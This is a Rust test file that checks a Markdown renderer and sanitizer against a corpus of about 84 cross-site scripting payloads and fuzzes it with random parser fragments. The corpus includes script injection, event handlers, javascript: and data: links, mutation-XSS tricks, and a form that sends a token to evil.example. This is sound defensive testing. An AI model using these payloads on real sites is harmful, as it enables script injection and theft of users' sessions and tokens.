//! Texts for getting more than text out of the renderer: known kinds, and random ones.

use proptest::prelude::*;

use super::*;

/// The known kinds. None of them may become anything but text, a link to the web or to mail, or a mark for a picture.
const CORPUS: [&str; 84] = [
    // The plain case, in capitals, and cut in half: a filter that only removes the inner tags builds the outer
    // one.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)//",
    "<script\n>alert(1)</script\n>",
    // Handlers need no script element. Unquoted values, odd quotes and `/` for a blank deceive filters, not
    // browsers.
    "<img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    "<img/src=`x`onerror=alert(1)>",
    // SVG and MathML have parsing rules of their own. Text that a filter takes for a comment or a style becomes
    // an element when the browser parses the cleaned text again.
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    // Elements that load something, or change where everything else is loaded from.
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<style>@import 'https://evil.example/x.css'; body { background: url(https://evil.example/) }</style>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    // Elements whose handlers run without a click.
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea onfocus=alert(1) autofocus>",
    "<marquee onstart=alert(1)>",
    // Forms send what a person types to a stranger. Buttons and links carry scripts in their addresses.
    "<button formaction=javascript:alert(1)>x</button>",
    "<form action=https://evil.example><input name=token></form>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"https://a.example\" onclick=\"alert(1)\">x</a>",
    // Places where a parser stops to read tags, and begins again elsewhere than a filter expects.
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<!DOCTYPE html [<!ENTITY x \"<script>\">]>&x;",
    // Schemes in Markdown links. Browsers ignore tabs, line ends and controls in a scheme, and decode entities
    // first.
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61script:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    // Other schemes that run something or read local files, and addresses without a scheme. Those lead into this
    // server, where the browser adds the page's cookie.
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](blob:https://a.example/1)",
    "[x](file:///etc/passwd)",
    "[x](ftp://evil.example)",
    "[x](//evil.example)",
    "[x](/api/logout)",
    "[x](\\\\evil.example)",
    "[x](view-source:https://a.example)",
    // A quote in an address or a title would end the attribute and begin another one.
    "[x](https://a.example/\"onmouseover=\"alert(1))",
    "[x](<https://a.example/\" onmouseover=\"alert(1)>)",
    "[x](https://a.example '\" onmouseover=\"alert(1)')",
    "[x](https://a.example \"\\\" onmouseover=alert(1) x=\\\"\")",
    "<javascript:alert(1)>",
    "<https://a.example/\"onclick=alert(1)>",
    // The same in reference links and pictures, whose text becomes an attribute as well.
    "[x]: javascript:alert(1)\n\n[x]",
    "[x]: https://a.example \"\\\"><script>alert(1)</script>\"\n\n[x]",
    "![x](javascript:alert(1))",
    "![\"onerror=\"alert(1)](https://a.example/x.png)",
    "![x](https://a.example/x.png\"onerror=\"alert(1))",
    "![x](<https://a.example/x.png\" onerror=\"alert(1)>)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    // The language of a code block becomes a class, and its text must not end the block.
    "```\"><script>alert(1)</script>\nx\n```",
    "```js onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    // Parsers drop or replace NUL, which can join a tag that the filter saw in pieces.
    "\u{0}<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
];

/// The allowed output: each element with its attributes and their allowed values.
const KNOWN: [(&str, &[&str]); 26] = [
    ("p", &[]),
    ("br", &[]),
    ("hr", &[]),
    ("h1", &[]),
    ("h2", &[]),
    ("h3", &[]),
    ("h4", &[]),
    ("h5", &[]),
    ("h6", &[]),
    ("ul", &[]),
    ("ol", &["start"]),
    ("li", &[]),
    ("blockquote", &[]),
    ("pre", &[]),
    ("code", &["class"]),
    ("em", &[]),
    ("strong", &[]),
    ("del", &[]),
    ("a", &["href", "title", "target", "rel", "class", "data-src"]),
    ("table", &[]),
    ("thead", &[]),
    ("tbody", &[]),
    ("tr", &[]),
    ("th", &["class"]),
    ("td", &["class"]),
    ("span", &["class"]),
];

/// Reads markup by hand, strictly: what is no known element with known attributes is a failure.
fn check(source: &str, markup: &str) -> Result<(), String> {
    let mut rest = markup;
    while let Some(at) = rest.find('<') {
        let tag = rest[at + 1..].split_once('>').ok_or("a tag without an end")?;
        rest = tag.1;
        let inside = tag.0.strip_prefix('/').unwrap_or(tag.0);
        // The renderer separates attributes by one blank. A tag in another form is not known, and so not let through.
        let (name, mut attributes) = inside.split_once(' ').unwrap_or((inside, ""));
        let allowed = KNOWN.iter().find(|(known, _)| *known == name);
        let (_, allowed) = allowed.ok_or_else(|| format!("<{name}> in {markup} of {source:?}"))?;
        while !attributes.is_empty() {
            let (key, value) =
                attributes.split_once("=\"").ok_or_else(|| format!("{attributes} in {markup}"))?;
            let (value, more) = value.split_once('"').ok_or("a value without an end")?;
            attributes = more.strip_prefix(' ').unwrap_or(more);
            let is_fine = allowed.contains(&key) && is_harmless(key, value);
            if !is_fine {
                return Err(format!("{key}={value} in {markup} of {source:?}"));
            }
        }
    }
    Ok(())
}

fn is_harmless(key: &str, value: &str) -> bool {
    match key {
        "href" => ["http://", "https://", "mailto:"].iter().any(|scheme| value.starts_with(scheme)),
        "data-src" => ["http://", "https://"].iter().any(|scheme| value.starts_with(scheme)),
        "rel" => value == "noopener noreferrer",
        "target" => value == "_blank",
        "start" => value.bytes().all(|byte| byte.is_ascii_digit()),
        "class" => value.bytes().all(|byte| byte.is_ascii_lowercase() || b"-0123456789_+#.".contains(&byte)),
        _ => !value.contains(['<', '>']),
    }
}

#[test]
fn nothing_of_the_known_kinds_gets_through() {
    let around = ["{}", "> {}", "- {}", "# {}", "**{}**", "[{}](https://a.example)", "a\n\n{}\n\nb", "{}{}"];
    for text in CORPUS {
        for around in around {
            let text = around.replace("{}", text);
            let markup = MarkdownRenderer::default().render(&text);
            check(&text, &markup).unwrap();
        }
    }
}

#[test]
fn the_check_sees_what_must_not_be() {
    for bad in [
        "<script>",
        "<p onclick=\"x\">",
        "<a href=\"javascript:x\">",
        "<img src=\"x\">",
        "<a href=\"/x\">",
        "<p style=\"x\">",
        "<a class=\"X\">",
        "<p",
    ] {
        check("", bad).unwrap_err();
    }
    check("", "<p>x</p><a href=\"https://a.example/\" rel=\"noopener noreferrer\">y &lt;b&gt;</a>").unwrap();
}

#[test]
fn the_second_wall_stands_alone() {
    for text in CORPUS {
        check(text, &sanitizer::clean(text)).unwrap();
    }
}

/// Pieces that mean something to a parser, in any order.
fn pieces() -> impl Strategy<Value = String> {
    let known = prop::sample::select(CORPUS.to_vec()).prop_map(str::to_owned);
    let signs = prop::sample::select(vec![
        "<",
        ">",
        "\"",
        "'",
        "&",
        "`",
        "```",
        "*",
        "**",
        "_",
        "[",
        "](",
        ")",
        "![",
        "\n",
        "\n\n",
        "    ",
        "- ",
        "> ",
        "# ",
        "|",
        "|---|",
        "\\",
        "<!--",
        "-->",
        "<a ",
        "<img ",
        "<p>",
        "</p>",
        "&#60;",
        "&lt;",
        "https://a.example/",
        "javascript:",
        "data:",
        "~~",
        "1. ",
        "[ ]",
        "```js\n",
        "on",
        "=",
        "\u{0}",
        "\u{202e}",
        "\t",
        "é",
        "🙂",
    ]);
    let piece = prop_oneof![1 => known, 6 => signs.prop_map(str::to_owned), 2 => ".{0,12}"];
    prop::collection::vec(piece, 0..40).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 2_000, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn nothing_unknown_comes_out(text in pieces()) {
        let markup = MarkdownRenderer::default().render(&text);
        prop_assert_eq!(check(&text, &markup), Ok(()));
    }
}
